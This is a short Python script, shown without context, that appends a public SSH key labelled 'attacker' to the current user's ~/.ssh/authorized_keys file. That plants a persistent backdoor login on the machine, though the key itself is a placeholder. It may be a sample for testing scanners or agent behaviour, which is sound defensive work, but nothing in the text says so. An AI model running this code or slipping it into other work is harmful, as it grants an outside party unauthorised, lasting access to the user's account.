import os.path

target = os.path.join(os.path.expanduser("~"), ".ssh", "authorized_keys")
with open(target, "a") as file:
    file.write("ssh-ed25519 AAAA attacker")
